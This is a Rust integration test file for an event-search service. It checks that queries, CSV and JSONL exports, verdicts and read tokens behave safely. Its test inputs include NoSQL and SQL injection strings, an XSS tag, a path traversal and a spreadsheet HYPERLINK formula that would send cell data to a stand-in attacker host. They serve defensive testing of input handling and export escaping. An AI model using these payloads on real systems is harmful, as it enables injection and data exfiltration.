//! Looking for events over HTTP: questions of any kind, files, verdicts and saved searches.

use std::collections::BTreeMap;

use axum::body::Body;
use axum::http::{Method, header};
use futures::StreamExt;
use radar_types::wire::Row;
use radar_types::{Role, Side};
use serde_json::{Value, json};
use tower::ServiceExt;

use crate::people::{Somebody, code, form};
use crate::support::{Answer, Home, TestApp, on_every_store, record};

on_every_store! {
    hostile_values_are_found_by_their_own_conditions_alone,
    hostile_questions_are_words_or_say_where_they_break_off,
    an_export_holds_what_was_found_with_all_that_was_said_of_it,
    no_cell_of_an_export_is_a_formula,
    an_export_that_fails_midway_is_broken_off,
    an_export_ends_with_the_right_to_it,
    exports_that_nobody_reads_hold_up_nobody,
    a_verdict_is_shown_and_found_and_taken_back,
    a_token_that_may_read_explores_its_collection,
}

/// Texts that mean something to a database, a shell, a page, or this program.
const HOSTILE: [&str; 18] = [
    "$ne",
    "{\"$gt\": \"\"}",
    "{\"$where\": \"sleep(9999)\"}",
    "'; return true; //",
    "' OR '1'='1",
    "a.b.$c",
    "^.*$",
    ".*",
    "*",
    "\"",
    "\"\"",
    "\\\"",
    "a\" OR \"b",
    "-x",
    "<script>alert(1)</script>",
    "\u{202e}txt.exe",
    "東京 é",
    "+OR:AND*?~^",
];

fn ask(endpoint: &str, parameters: &[(&str, &str)]) -> String {
    format!("/api/fn/{endpoint}?span=1h&{}", form(parameters))
}

fn export(format: &str, question: &str) -> String {
    format!("/api/export?span=1h&format={format}&{}", form(&[("question", question)]))
}

async fn count(app: &TestApp, question: &str) -> u64 {
    let answer = app.get(&ask("picture", &[("question", question)])).await;
    assert_eq!(answer.status, 200, "{question}: {}", answer.text());
    events(&answer.json()["tally"])
}

fn events(tally: &Value) -> u64 {
    let scored = tally["by_severity"].as_array().unwrap().iter().filter_map(Value::as_u64).sum::<u64>();
    scored + tally["unscored"].as_u64().unwrap()
}

/// Events of many kinds, one a host.
async fn with_hostile_hosts(home: &Home) -> TestApp {
    let app = TestApp::start(home).await;
    let events: Vec<Value> = HOSTILE
        .iter()
        .map(|text| {
            let mut event = record(text);
            (event["hostname"], event["user"], event[*text]) = (json!(text), json!(text), json!(text));
            event
        })
        .collect();
    let answer = app.ingest(Value::from(events).to_string()).await;
    assert_eq!(answer.json()["accepted"], HOSTILE.len(), "{}", answer.text());
    app
}

async fn hostile_values_are_found_by_their_own_conditions_alone(home: &Home) {
    let app = with_hostile_hosts(home).await;
    for text in HOSTILE {
        for field in ["host", "user"] {
            assert_eq!(count(&app, &radar_types::query::term(field, text)).await, 1, "{field} {text}");
        }
        let named = radar_types::query::Field::Named(text.into());
        assert_eq!(count(&app, &radar_types::query::term(&named.name(), text)).await, 1, "{text}");
        let answer = app.get(&ask("complete", &[("field", "host"), ("start", text)])).await;
        assert!(answer.json().as_array().unwrap().iter().any(|value| value["value"] == text), "{text}: {}", answer.text());
    }
    let facets = app.get(&ask("facets", &[])).await.json();
    for facet in facets.as_array().unwrap() {
        for value in facet["values"].as_array().unwrap() {
            let question = radar_types::query::term(facet["field"].as_str().unwrap(), value["value"].as_str().unwrap());
            assert_eq!(count(&app, &question).await, value["count"].as_u64().unwrap(), "{question}");
        }
    }
}

async fn hostile_questions_are_words_or_say_where_they_break_off(home: &Home) {
    let app = with_hostile_hosts(home).await;
    let all = HOSTILE.len() as u64;
    for text in HOSTILE {
        for question in [text.to_owned(), format!("host:{text}"), format!("-{text}"), format!("message:\"{text}\"")] {
            for endpoint in ["picture", "facets"] {
                let answer = app.get(&ask(endpoint, &[("question", &question)])).await;
                match answer.status.as_u16() {
                    200 => {}
                    400 => check_question(&answer),
                    status => panic!("{endpoint} {question}: {status} {}", answer.text()),
                }
            }
        }
        // An operator is no operator: what it would find is everything.
        for place in ["after", "order"] {
            let answer = app.get(&ask("events", &[("limit", "9"), (place, text)])).await;
            assert!([400, 404].contains(&answer.status.as_u16()), "{place} {text}: {}", answer.text());
        }
        for parameter in ["question[$ne]", "question[]", "span[$gt]"] {
            let answer = app.get(&format!("/api/fn/picture?span=1h&{}={}", encoded(parameter), encoded(text))).await;
            assert_eq!((answer.status.as_u16(), code(&answer)), (400, json!("invalid")), "{parameter} {}", answer.text());
        }
    }
    assert!(count(&app, "{\"$ne\": null}").await < all);
    assert_eq!(count(&app, "host:{\"$ne\":null}").await, 0);
    for question in ["(", ")", "severity:$ne", "score:{}", "template:../../etc/passwd", &"a ".repeat(2_000)] {
        for path in [ask("picture", &[("question", question)]), export("csv", question)] {
            check_question(&app.get(&path).await);
        }
        let events = ask("events", &[("question", question), ("limit", "1")]);
        check_question(&app.get(&events).await);
    }
}

fn encoded(text: &str) -> String {
    form(&[("", text)]).trim_start_matches('=').to_owned()
}

fn check_question(answer: &Answer) {
    assert_eq!((answer.status.as_u16(), code(answer)), (400, json!("question")), "{}", answer.text());
    assert!(answer.json()["message"].as_str().unwrap().starts_with("The question can't be read at character "));
}

/// So many that an export has several pages.
async fn with_pages(app: &TestApp, somebody: &Somebody) {
    let events: Vec<Value> = (0..2_500).map(|number| record(&format!("line {number}"))).collect();
    let answer = somebody.ingest(app, Value::from(events).to_string()).await;
    assert_eq!(answer.json()["accepted"], 2_500, "{}", answer.text());
}

async fn an_export_holds_what_was_found_with_all_that_was_said_of_it(home: &Home) {
    let app = TestApp::start(home).await;
    with_pages(&app, &Somebody::new()).await;
    let answer = app.get(&export("jsonl", "-\"line 7\"")).await;
    assert_eq!(answer.headers[header::CONTENT_TYPE], "application/x-ndjson");
    assert_eq!(answer.headers[header::CACHE_CONTROL], "no-store");
    let disposition = answer.headers[header::CONTENT_DISPOSITION].to_str().unwrap();
    let name = disposition.strip_prefix("attachment; filename=\"radar-").and_then(|name| name.strip_suffix(".jsonl\""));
    assert!(name.unwrap().bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-'), "{disposition}");
    let rows: Vec<Row> = answer.text().lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let messages: BTreeMap<&str, &Row> = rows.iter().map(|row| (row.scored.event.message.as_str(), row)).collect();
    assert_eq!((rows.len(), messages.len(), messages.contains_key("line 7")), (2_499, 2_499, false));
    assert!(rows.iter().all(|row| row.severity.is_some() && row.scored.template.is_some()));
    assert!(rows.is_sorted_by_key(|row| std::cmp::Reverse(row.scored.event.timestamp)));
    let oldest = app.get(&(export("jsonl", "") + "&order=oldest")).await;
    let first: Row = serde_json::from_str(oldest.text().lines().next().unwrap()).unwrap();
    assert_eq!(first.scored.event.timestamp, rows.iter().map(|row| row.scored.event.timestamp).min().unwrap());
    let table = app.get(&export("csv", "\"line 8\"")).await;
    assert_eq!(table.headers[header::CONTENT_TYPE], "text/csv; charset=utf-8");
    assert_eq!(table.text().lines().count(), 2, "{}", table.text());
    let nothing = app.get(&export("csv", "nothing")).await;
    assert_eq!((nothing.status.as_u16(), nothing.text().lines().count()), (200, 1));
    for wrong in ["format=xml", "format=csv&order=score", "format=csv&span=2h", ""] {
        assert_eq!(app.get(&format!("/api/export?span=1h&{wrong}")).await.status, 400, "{wrong}");
    }
}

async fn no_cell_of_an_export_is_a_formula(home: &Home) {
    let app = TestApp::start(home).await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"look\")";
    let mut event = record(formula);
    for field in ["hostname", "source", "os_type", "level", "collector", "user", "address", "channel", "record_id"] {
        event[field] = json!(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1"][field.len() % 9]);
    }
    assert_eq!(app.ingest(event.to_string()).await.json()["accepted"], 1);
    let table = app.get(&export("csv", "")).await;
    let rows = table_rows(&table.text());
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0].len(), rows[1].len());
    for cell in &rows[1] {
        assert!(!cell.trim_start().starts_with(['=', '+', '-', '@', '＝']), "{cell:?}");
    }
    assert!(rows[1].contains(&format!("'{formula}")));
}

/// As a spreadsheet reads them.
fn table_rows(text: &str) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let mut is_quoted = false;
    let mut characters = text.trim_end_matches("\r\n").chars().peekable();
    while let Some(character) = characters.next() {
        let row = rows.last_mut().unwrap();
        match character {
            '"' if is_quoted && characters.next_if_eq(&'"').is_some() => row.last_mut().unwrap().push('"'),
            '"' => is_quoted = !is_quoted,
            ',' if !is_quoted => row.push(String::new()),
            '\r' if !is_quoted && characters.next_if_eq(&'\n').is_some() => rows.push(vec![String::new()]),
            other => row.last_mut().unwrap().push(other),
        }
    }
    rows
}

/// The pages of an export, as they are taken.
async fn open(app: &TestApp, somebody: &Somebody, path: &str) -> axum::body::BodyDataStream {
    let request = somebody.request(&Method::GET, path).body(Body::empty()).unwrap();
    let response = app.router.clone().oneshot(request).await.unwrap();
    assert_eq!(response.status(), 200);
    response.into_body().into_data_stream()
}

/// The head, and the first page.
async fn begin(pages: &mut axum::body::BodyDataStream) {
    let head = pages.next().await.unwrap().unwrap();
    assert!(head.starts_with(b"seq,timestamp,"));
    let first = pages.next().await.unwrap().unwrap();
    assert_eq!(first.iter().filter(|byte| **byte == b'\n').count(), 1_000);
}

async fn an_export_that_fails_midway_is_broken_off(home: &Home) {
    let app = TestApp::start(home).await;
    with_pages(&app, &Somebody::new()).await;
    let mut pages = open(&app, &Somebody::new(), &export("csv", "")).await;
    begin(&mut pages).await;
    app.store.close().await.unwrap();
    assert!(pages.next().await.unwrap().is_err(), "a silent end would look like a whole file");
    assert!(pages.next().await.is_none());
    assert_eq!(app.get(&export("csv", "")).await.status, 503, "what can't begin says so");
}

async fn an_export_ends_with_the_right_to_it(home: &Home) {
    let app = TestApp::start(home).await;
    let ann = Somebody::with_account(&app, "ann@example.org", Role::Viewer).await;
    with_pages(&app, &ann).await;
    let reader = Somebody::with_token(ann.token(&app, &[("may_read", "true")]).await);
    let mut by_token = open(&app, &reader, &export("csv", "")).await;
    let mut by_cookie = open(&app, &ann, &export("csv", "")).await;
    begin(&mut by_token).await;
    begin(&mut by_cookie).await;
    let listed = ann.get(&app, "/api/fn/tokens").await.json();
    assert_eq!(ann.post(&app, "/api/fn/revoke_token", &form(&[("id", listed[0]["id"].as_str().unwrap())])).await.status, 200);
    assert!(by_token.next().await.unwrap().is_err());
    assert!(by_cookie.next().await.unwrap().is_ok(), "that is another right");
    let gone = form(&[("password", crate::people::PASSWORD)]);
    assert_eq!(ann.post(&app, "/api/fn/delete_account", &gone).await.status, 200);
    assert!(by_cookie.next().await.unwrap().is_err(), "a collection that is gone is no end");
}

async fn exports_that_nobody_reads_hold_up_nobody(home: &Home) {
    let app = TestApp::start(home).await;
    with_pages(&app, &Somebody::new()).await;
    let mut unread = Vec::new();
    for _ in 0..20 {
        let mut pages = open(&app, &Somebody::new(), &export("csv", "")).await;
        begin(&mut pages).await;
        unread.push(pages);
    }
    assert_eq!(count(&app, "").await, 2_500);
    assert_eq!(app.get(&export("jsonl", "")).await.text().lines().count(), 2_500);
}

async fn a_verdict_is_shown_and_found_and_taken_back(home: &Home) {
    let app = TestApp::start(home).await;
    let ann = Somebody::with_account(&app, "ann@example.org", Role::Viewer).await;
    assert_eq!(ann.ingest(&app, json!([record("one"), record("two")]).to_string()).await.status, 200);
    let page = ann.get(&app, &ask("events", &[("limit", "1")])).await.json();
    let seq = page["rows"][0]["seq"].as_str().unwrap();
    let judge = async |verdict: &str| ann.post(&app, "/api/fn/judge", &format!("seq={seq}{verdict}")).await.status.as_u16();
    let found = async |question: &str| {
        let page = ann.get(&app, &ask("events", &[("limit", "9"), ("question", question)])).await.json();
        page["rows"].as_array().unwrap().len()
    };
    assert_eq!((judge("&verdict=suspicious").await, found("verdict:suspicious").await), (200, 1));
    let detail = ann.get(&app, &format!("/api/fn/event?seq={seq}")).await.json();
    assert_eq!(detail["row"]["verdict"], "suspicious");
    assert_eq!((judge("&verdict=expected").await, found("verdict:suspicious").await), (200, 0));
    assert_eq!((judge("").await, found("verdict:none").await), (200, 2));
    assert_eq!(judge("&verdict=maybe").await, 400);
}

async fn a_token_that_may_read_explores_its_collection(home: &Home) {
    let app = TestApp::start(home).await;
    let ann = Somebody::with_account(&app, "ann@example.org", Role::Viewer).await;
    assert_eq!(ann.ingest(&app, record("of ann").to_string()).await.status, 200);
    let reader = Somebody::with_token(ann.token(&app, &[("may_read", "true")]).await);
    let picture = reader.get(&app, &ask("picture", &[])).await.json();
    assert_eq!(events(&picture["tally"]), 1);
    let page = reader.get(&app, &ask("events", &[("limit", "9")])).await.json();
    let seq = page["rows"][0]["seq"].as_str().unwrap();
    for path in [ask("facets", &[]), format!("/api/fn/event?seq={seq}"), ask("complete", &[("field", "host")]), export("csv", "")] {
        let answer = reader.get(&app, &path).await;
        assert_eq!(answer.status, 200, "{path}");
        assert!(answer.text().contains("WS-014"), "{path}: {}", answer.text());
    }
    assert_eq!(reader.post(&app, "/api/fn/judge", &format!("seq={seq}&verdict=expected")).await.status, 401);
    assert_eq!(
        app.services
            .picture(&radar_services::Actor::visitor(), Side::Public, "", "1h".parse().unwrap(), crate::support::now())
            .await
            .unwrap()
            .tally
            .events(),
        0
    );
}
